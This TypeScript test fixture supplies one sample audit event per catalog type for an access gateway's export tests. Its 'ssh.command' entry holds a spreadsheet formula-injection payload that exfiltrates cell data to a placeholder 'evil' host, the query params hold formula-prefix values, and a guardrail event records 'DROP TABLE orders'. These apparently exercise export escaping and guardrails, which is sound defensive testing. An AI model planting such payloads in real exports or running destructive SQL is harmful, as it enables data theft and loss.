import { createEvent, type AuditEvent, type EventInput } from '../../src/events/envelope.ts';
import { EVENT_CATALOG, type EventType } from '../../src/events/catalog.ts';

/**
 * One realistic event of every catalog type, shaped as the code that emits it shapes it (details included),
 * for the export tests. A Record over EventType: a new catalog type fails to compile until it has one.
 */
const alice = { user: 'alice', roles: ['dba', 'oncall'], cert_serial: '0a1b2c' };
const admin = { user: 'root-admin', roles: [] as string[] };
const vigil = { user: 'vigil', roles: ['system'] };
const client = { ip: '10.0.0.7', port: 50123 };
const cli = { ip: 'local', via: 'cli:ops@bastion' };
const pg = { name: 'orders-db', protocol: 'postgres', host: '10.1.2.3', login: 'app', database: 'orders' };
const my = { name: 'shop-db', protocol: 'mysql', host: '10.1.2.4', login: 'shop', database: 'shop' };
const ssh = { name: 'web-1', protocol: 'ssh', host: '10.1.2.5', login: 'deploy' };
const grant = { name: 'grant/01HGRANT', protocol: 'vigil' };
const access = { request_id: '01HGRANT', user: 'alice', role: 'dba', targets: ['orders-db'], reason: 'INC-42', ttl_ms: 3_600_000, state: 'active', expires_at: '2026-12-06T03:00:00.000Z' };

const EVENTS: Record<EventType, Omit<EventInput, 'type'>> = {
  'cert.issued': { outcome: 'success', actor: admin, source: cli, target: { name: 'user/alice', protocol: 'vigil' }, details: { serial: '0a1b2c', user: 'alice', roles: ['dba'], kind: 'cert', not_before: '2026-12-06T01:00:00.000Z', not_after: '2026-12-06T02:00:00.000Z', grant_id: null } },
  'cert.revoked': { outcome: 'success', actor: admin, source: cli, target: { name: 'cert/0a1b2c', protocol: 'vigil' }, details: { serial: '0a1b2c', reason: 'laptop lost' } },
  'ca.created': { outcome: 'success', actor: admin, source: cli, target: { name: 'ca', protocol: 'vigil' }, details: { ssh_ca_fingerprint: 'SHA256:abc' } },
  'ca.rotated': { outcome: 'success', actor: { user: 'root', roles: [] }, source: { ip: 'local', via: 'cli:root@host' }, target: { name: 'ca', protocol: 'vigil' }, details: { generation: '20261206T160000Z-abcdef', previous: { sshUserCa: 'ssh-ed25519 AAAA', x509Serial: '01', x509Subject: 'CN=vigil CA, O=vigil' }, current: { sshUserCa: 'ssh-ed25519 BBBB', x509Serial: '02', x509Subject: 'CN=vigil CA 20261206T160000Z-abcdef, O=vigil' }, old_trusted_until: '2026-12-06T17:00:00.000Z', old_certificates_live: 3 } },
  'auth.success': { outcome: 'success', actor: alice, source: client, target: pg, session_id: 'S-pg', details: { method: 'certificate' } },
  'auth.failure': { outcome: 'failure', actor: { user: 'mallory', roles: [] }, source: { ip: '203.0.113.9', port: 40000 }, target: ssh, details: { method: 'publickey', reason: 'certificate expired' } },
  'auth.oidc.success': { outcome: 'success', actor: { user: 'alice', roles: ['oncall'], cert_serial: '00c0ffee00000002' }, source: { ip: '198.51.100.7', port: 51000, via: 'api' }, target: { name: 'oidc', protocol: 'https', host: 'idp.example.com' }, details: { flow: 'code', issuer: 'https://idp.example.com', subject: 'u-1842', groups: ['sre'], roles: ['oncall'], serial: '00c0ffee00000002', not_after: '2026-12-06T09:00:00.000Z' } },
  'auth.oidc.failure': { outcome: 'failure', actor: { user: 'unknown', roles: [] }, source: { ip: '198.51.100.7', port: 51001, via: 'api' }, target: { name: 'oidc', protocol: 'https', host: 'idp.example.com' }, details: { flow: 'device', issuer: 'https://idp.example.com', reason: 'unmapped_group', detail: 'groups ["marketing"] map to no role', subject: 'u-77', groups: ['marketing'] } },
  'auth.failure.summary': { outcome: 'failure', actor: { user: 'unknown', roles: [] }, source: { ip: '203.0.113.9' }, target: { name: '(none)', protocol: 'ssh' }, details: { first: '2026-12-06T01:00:01.000Z', last: '2026-12-06T01:00:59.000Z', reasons: { no_certificate: 280 }, recorded: 20, suppressed: 280, window_seconds: 60, window_start: '2026-12-06T01:00:00.000Z' } },
  // The session that starts here also ends here (session.end below): a session left open would get
  // session.end gateway_crash from the next writer that opens the log.
  'session.start': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { grant_ids: ['01HGRANT'], cert_not_after: '2026-12-06T02:00:00.000Z' } },
  'session.end': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { reason: 'client_closed', duration_ms: 5230, bytes_from_client: 1200, bytes_to_client: 88000, statements: 0 } },
  'session.kill': { outcome: 'success', actor: { user: 'carol', roles: ['auditor'] }, source: { ip: '10.0.0.9', via: 'api' }, target: { name: 'session/S-ssh', protocol: 'vigil' }, details: { session_id: 'S-ssh', session_user: 'alice', session_target: 'web1', session_protocol: 'ssh', reason: 'INC-7 runaway job' } },
  'session.watch_started': { outcome: 'success', actor: { user: 'carol', roles: ['auditor'] }, source: { ip: '10.0.0.9', via: 'api' }, target: { name: 'session/S-ssh', protocol: 'vigil' }, details: { session_id: 'S-ssh', session_user: 'alice', session_target: 'web1', session_protocol: 'ssh', from: 'start' } },
  'session.watch_ended': { outcome: 'success', actor: { user: 'carol', roles: ['auditor'] }, source: { ip: '10.0.0.9', via: 'api' }, target: { name: 'session/S-ssh', protocol: 'vigil' }, details: { session_id: 'S-ssh', session_user: 'alice', session_target: 'web1', session_protocol: 'ssh', why: 'watcher_closed', duration_ms: 4100, bytes: 5120 } },
  'ssh.exec.start': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 0, command: 'uptime' } },
  'ssh.exec': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 0, command: 'uptime', exit_status: 0 } },
  'ssh.command.start': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 1, command: 'uptime', source: 'terminal', prompt: 'alice@web1:~$' } },
  'ssh.command': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 1, command: '=HYPERLINK("http://evil/"&A1)', source: 'terminal' } },
  'ssh.sftp': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 2, op: 'rename', old_path: '/tmp/a.txt', new_path: '/tmp/b.txt', posix: true, result: 'ok' } },
  'ssh.scp': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 3, op: 'file', direction: 'upload', mode: '0644', size: 12, bytes: 12, path: '/srv/app/config.yml', result: 'ok' } },
  'ssh.sftp.start': { outcome: 'success', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 2, op: 'rename', old_path: '/tmp/a.txt', new_path: '/tmp/b.txt' } },
  'ssh.sftp.undecodable': { outcome: 'failure', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 2, error: 'unknown packet type 250' } },
  'ssh.scp.undecodable': { outcome: 'failure', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { channel: 3, error: 'bad directive', command: 'scp -t /tmp' } },
  'ssh.forward': { outcome: 'failure', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { destination: '10.9.9.9:5432', reason: 'not allowed' } },
  'ssh.request': { outcome: 'failure', actor: alice, source: client, target: ssh, session_id: 'S-ssh', details: { request: 'auth-agent-req@openssh.com', channel: 0 } },
  'db.query.start': { outcome: 'unknown', actor: alice, source: client, target: pg, session_id: 'S-pg', details: { sql: 'SELECT pg_sleep(5)', protocol: 'simple' } },
  'db.query': { outcome: 'success', actor: alice, source: client, target: pg, session_id: 'S-pg', details: { command: 'SELECT', duration_ms: 1.25, params: ['42', '@evil', '-1+2'], protocol: 'extended', rows_returned: 1, sql: 'SELECT * FROM orders WHERE id = $1, "note" = $2\nAND x = $3' } },
  'db.session_query': { outcome: 'success', actor: alice, source: client, target: pg, session_id: 'S-pg', details: { command: 'SELECT', duration_ms: 0.5, protocol: 'simple', role: 'reader', rows_returned: 1, sql: 'SELECT current_user' } },
  'db.cancel': { outcome: 'success', actor: alice, source: client, target: my, session_id: 'S-my', details: { command: 'KILL', database: 'shop', gateway_connection_id: 7, kill: 'query', query: 'KILL QUERY 7', target_session_id: 'S-my2' } },
  'db.user.provisioned': { outcome: 'success', actor: alice, source: client, target: pg, session_id: 'S-pg-prov', details: { account: 'vigil_alice', created: true, sessions: 1 } },
  'db.user.granted': { outcome: 'success', actor: alice, source: client, target: pg, session_id: 'S-pg-prov', details: { account: 'vigil_alice', roles: ['pg_read_all_data'], newly_granted: ['pg_read_all_data'], vigil_roles: ['oncall'] } },
  'db.user.revoked': { outcome: 'success', actor: alice, source: client, target: pg, session_id: 'S-pg-prov', details: { account: 'vigil_alice', roles: ['pg_read_all_data'], reason: 'client_closed' } },
  'db.user.locked': { outcome: 'success', actor: alice, source: client, target: pg, session_id: 'S-pg-prov', details: { account: 'vigil_alice', reason: 'client_closed', locked: true, killed_connections: 0 } },
  'db.user.provisioning_failed': { outcome: 'failure', actor: alice, source: client, target: pg, session_id: 'S-pg-prov', details: { account: 'vigil_alice', step: 'open', error: 'account "vigil_alice" exists and is not managed by vigil' } },
  'access.requested': { outcome: 'success', actor: alice, source: client, target: grant, details: { ...access, state: 'pending', request_expires_at: '2026-12-06T02:00:00.000Z', approvals_required: 1 } },
  'access.approved': { outcome: 'success', actor: { user: 'bob', roles: ['approver'] }, source: client, target: grant, details: { ...access, break_glass: false, approvals: ['bob'] } },
  'access.approval': { outcome: 'success', actor: { user: 'carol', roles: ['approver'] }, source: client, target: grant, details: { ...access, state: 'pending', approvals: ['carol'] } },
  'access.denied': { outcome: 'success', actor: { user: 'bob', roles: ['approver'] }, source: client, target: grant, details: { ...access, state: 'denied', denial_reason: 'not during freeze' } },
  'access.refused': { outcome: 'failure', actor: alice, source: client, target: grant, details: { action: 'approve', code: 'VIGIL_SELF_APPROVAL', reason: 'you cannot approve your own request', request_id: '01HGRANT' } },
  'access.revoked': { outcome: 'success', actor: { user: 'bob', roles: ['approver'] }, source: client, target: grant, details: { ...access, state: 'revoked', revoke_reason: 'done' } },
  'access.expired': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: grant, details: { ...access, state: 'expired' } },
  'access.request_expired': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: grant, details: { ...access, state: 'request_expired' } },
  'access.notified': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: grant, details: { ...access, requester: 'alice', beneficiary: 'alice', notifiers: ['chat'], link_ids: ['0123456789abcdef', 'fedcba9876543210'], links_expire_at: '2026-12-06T02:00:00.000Z' } },
  'access.reminded': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: grant, details: { ...access, requester: 'alice', beneficiary: 'alice', notifiers: ['chat'], link_ids: ['1123456789abcdef', 'eedcba9876543210'], links_expire_at: '2026-12-06T02:00:00.000Z' } },
  'access.escalated': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: grant, details: { ...access, requester: 'alice', beneficiary: 'alice', notifiers: ['oncall-hook'], link_ids: ['2123456789abcdef', 'ddddba9876543210'], links_expire_at: '2026-12-06T02:00:00.000Z' } },
  'access.progress_notified': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: grant, details: { ...access, requester: 'alice', beneficiary: 'alice', notifiers: ['chat'], approvals: ['carol'], link_ids: ['3123456789abcdef', 'cccdba9876543210'], links_expire_at: '2026-12-06T02:00:00.000Z' } },
  'access.decision_notified': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: grant, details: { ...access, requester: 'alice', beneficiary: 'alice', notifiers: ['chat'], decision: 'active', decided_by: 'bob' } },
  'access.link_used': { outcome: 'success', actor: { user: 'bob', roles: ['approver'] }, source: client, target: grant, details: { request_id: '01HGRANT', link_id: '0123456789abcdef', decision: 'approve', role: 'prod-dba', user: 'alice' } },
  'access.link_refused': { outcome: 'failure', actor: alice, source: client, target: grant, details: { request_id: '01HGRANT', link_id: '0123456789abcdef', code: 'VIGIL_LINK_NOT_APPROVER', reason: 'you filed this request' } },
  'console.signin': { outcome: 'success', actor: { user: 'carol', roles: ['auditor'], cert_serial: '0c0c' }, source: { ip: '10.0.0.8', port: 50200, via: 'console' }, target: { name: 'console', protocol: 'https' }, details: { method: 'cert', console_session: 'cs-1a2b', roles: ['auditor'] } },
  'console.signout': { outcome: 'success', actor: { user: 'carol', roles: ['auditor'] }, source: { ip: '10.0.0.8', port: 50200, via: 'console' }, target: { name: 'console', protocol: 'https' }, details: { console_session: 'cs-1a2b', reason: 'signed_out' } },
  'console.view': { outcome: 'success', actor: { user: 'carol', roles: ['auditor'] }, source: { ip: '10.0.0.8', port: 50200, via: 'console' }, target: ssh, session_id: 'S-ssh', details: { view: 'recording', recording: 'S-ssh/ch0.cast', range: 'bytes=0-65535', console_session: 'cs-1a2b' } },
  'lock.created': { outcome: 'success', actor: admin, source: cli, target: { name: 'user/mallory', protocol: 'vigil' }, details: { user: 'mallory', reason: 'suspicious', expires_at: null } },
  'lock.deleted': { outcome: 'success', actor: admin, source: cli, target: { name: 'user/mallory', protocol: 'vigil' }, details: { user: 'mallory' } },
  'api.request': { outcome: 'failure', actor: { user: 'unknown', roles: [] }, source: { ip: '::1', port: 51000, via: 'api' }, target: { name: 'api', protocol: 'https' }, details: { method: 'POST', path: '/v1/access/requests', status: 401, code: 'VIGIL_NO_CERT', message: 'client certificate required' } },
  'audit.checkpoint': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'audit', protocol: 'vigil' }, details: { seq: 10, head: 'ab'.repeat(32), sig: 'c2ln', key_id: 'k1', reason: 'interval' } },
  'audit.started': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'audit', protocol: 'vigil' }, details: { pid: 1234 } },
  'audit.stopped': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'audit', protocol: 'vigil' }, details: {} },
  'audit.export': { outcome: 'success', actor: admin, source: cli, target: { name: 'audit', protocol: 'vigil' }, details: { format: 'csv', filter: { user: 'alice' }, filter_text: '--user alice', count: 3, out: '/tmp/x.csv' } },
  'audit.bundle': { outcome: 'success', actor: admin, source: cli, target: { name: 'audit', protocol: 'vigil' }, details: { filter: { user: 'alice' }, filter_text: '--user alice --since 2026-12-06T00:00:00.000Z --until 2026-12-06T01:00:00.000Z', since: '2026-12-06T00:00:00.000Z', until: '2026-12-06T01:00:00.000Z', out: '/tmp/case.tar', manifest_sha256: 'ab'.repeat(32), key_id: '0123456789abcdef', chain_seq: { first: 4, last: 40 }, range_seq: { first: 5, last: 38 }, counts: { events: 3, chain_records: 37, checkpoints: 2, recordings: 1 }, recordings_unavailable: 0 } },
  'report.generated': { outcome: 'success', actor: admin, source: cli, target: { name: 'report/access', protocol: 'vigil' }, details: { report: 'access', format: 'html', out: '/tmp/review.html', since: '2026-11-06T00:00:00.000Z', until: '2026-12-06T00:00:00.000Z', bytes: 250000, sha256: 'ab'.repeat(32), sessions: 4, changes: 2, unclassified: 0, denied_or_failed: 1, chain_status: 'unwitnessed', chain_checkpoint_seq: 41 } },
  'audit.outage': { outcome: 'failure', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'audit', protocol: 'vigil' }, details: { started: '2026-12-06T01:00:00.000Z', ended: '2026-12-06T01:00:05.000Z', duration_ms: 5000, reason: 'ENOSPC', events_refused: 3, session_ends_recorded_late: 1 } },
  'audit.purged': { outcome: 'success', actor: admin, source: cli, target: { name: 'audit', protocol: 'vigil' }, details: { reason: 'retention', segments: ['x.log'], first_seq: 1, last_seq: 9, min_time: '2025-01-01T00:00:00.000Z', max_time: '2025-01-02T00:00:00.000Z', recording_sessions: [], holds: [] } },
  'hold.added': { outcome: 'success', actor: admin, source: cli, target: { name: 'hold/01H', protocol: 'vigil' }, details: { hold_id: '01H', reason: 'litigation', user: 'alice' } },
  'hold.released': { outcome: 'success', actor: admin, source: cli, target: { name: 'hold/01H', protocol: 'vigil' }, details: { hold_id: '01H', reason: 'litigation', user: 'alice', release_reason: 'settled' } },
  'guardrail.blocked': { outcome: 'failure', actor: alice, source: client, target: pg, session_id: 'S-pg-guarded', details: { rule: 'no-drops', decision: 'block', reason: 'DROP', protocol: 'simple', sql: 'DROP TABLE orders' } },
  'guardrail.unparsed': { outcome: 'failure', actor: alice, source: client, target: ssh, session_id: 'S-ssh-guarded', details: { rule: 'careful-shell', decision: 'block', reason: 'unparsable: unterminated single quote', command: "echo 'x" } },
  'alert.fired': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'alert/failed-logins', protocol: 'vigil' }, details: { rule: 'failed-logins', group: { 'actor.user': 'alice' }, count: 5, threshold: 5, window_ms: 60000, event_ids: ['01HA', '01HB', '01HC', '01HD', '01HE'], notify: ['oncall-hook'] } },
  'alert.resolved': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'alert/failed-logins', protocol: 'vigil' }, details: { rule: 'failed-logins', group: { 'actor.user': 'alice' }, window_ms: 60000, last_event_time: '2026-12-06T01:00:00.000000Z', notify: ['oncall-hook'] } },
  'gateway.started': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'gateway', protocol: 'vigil' }, details: { ports: { ssh: 2222 } } },
  'gateway.stopped': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'gateway', protocol: 'vigil' }, details: {} },
  'config.reloaded': { outcome: 'success', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'config', protocol: 'vigil' }, details: { via: 'signal', file: '/etc/vigil/vigil.yaml', digest: { old: 'aa', new: 'bb' }, targets: { added: ['ssh/web-2'], removed: [], changed: [] }, roles: { added: [], removed: ['contractor'], changed: [] }, applied: ['targets', 'roles'], restart_required: [], sessions_cut: [] } },
  'config.reload_failed': { outcome: 'failure', actor: vigil, source: { ip: 'local', via: 'gateway' }, target: { name: 'config', protocol: 'vigil' }, details: { via: 'signal', file: '/etc/vigil/vigil.yaml', error: { code: 'VIGIL_CONFIG_INVALID', key: 'targets[1].port', message: 'targets[1].port: Invalid input' } } },
};

/** One event per catalog type, in catalog order. */
export function oneEventOfEachType(): AuditEvent[] {
  return (Object.keys(EVENT_CATALOG) as EventType[]).map((type) => createEvent({ type, ...EVENTS[type] }));
}
